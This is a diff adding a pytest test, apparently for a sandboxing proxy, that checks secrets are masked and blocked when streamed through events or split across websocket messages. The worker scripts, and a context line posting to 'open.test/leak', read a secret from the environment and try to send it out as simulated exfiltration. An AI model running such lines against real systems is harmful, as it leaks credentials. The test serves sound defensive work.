@@ -169,6 +169,34 @@ found['leak'] = get('https://open.test/leak', data=big + os.environ['HELD'].enco
     assert not [each for each in bottles.upstream.requests if HELD.encode() in each.body]
 
 
+def test_events_come_one_by_one_and_web_sockets_are_judged(bottles: Bottles) -> None:
+    """DL11, DL12, PX26: an event isn't held back for the next; a value in two messages is seen; echoes are masked."""
+    ended = bottles.script(
+        "worker",
+        """
+found['events'] = events('https://api.test/v1/events', lambda: get('https://api.test/v1/seen'))
+held = os.environ['HELD'].encode()
+found['ws'] = websocket('api.test', '/v1/ws', [b'hello', b'again'])
+found['leak'] = websocket('api.test', '/v1/ws', [b'x', b'a ' + held, b'after'])
+found['split'] = websocket('api.test', '/v1/ws', [held[:9], held[9:], b'after'])
+found['elsewhere'] = websocket('api.test', '/v2/ws', [b'x'])[0]
+""",
+    )
+    assert ended.code == 0, ended.stderr
+    answers = ended.answers
+    masked = "Bearer " + "*" * len(TOKEN)
+    assert answers["events"] == ["first", masked, "last"]
+    assert answers["ws"] == ["HTTP/1.1 101 Switching Protocols", f"{masked} hello", f"{masked} again"]
+    assert len(answers["leak"]) == 3
+    assert not answers["leak"][-1].startswith("Bearer")
+    assert answers["elsewhere"].startswith("HTTP/1.1 403")
+    arrived = bottles.upstream.messages
+    assert arrived[:3] == [b"hello", b"again", b"x"]
+    assert not [each for each in arrived if HELD.encode() in each or each == b"after"]
+    assert HELD.encode() not in b"".join(arrived)
+    assert TOKEN not in ended.stdout
+
+
 @pytest.mark.parametrize("moment", ["running", "launching"])
 def test_a_killed_launcher_leaves_no_process_and_no_credential(bottles: Bottles, moment: str) -> None:
     """LC1."""
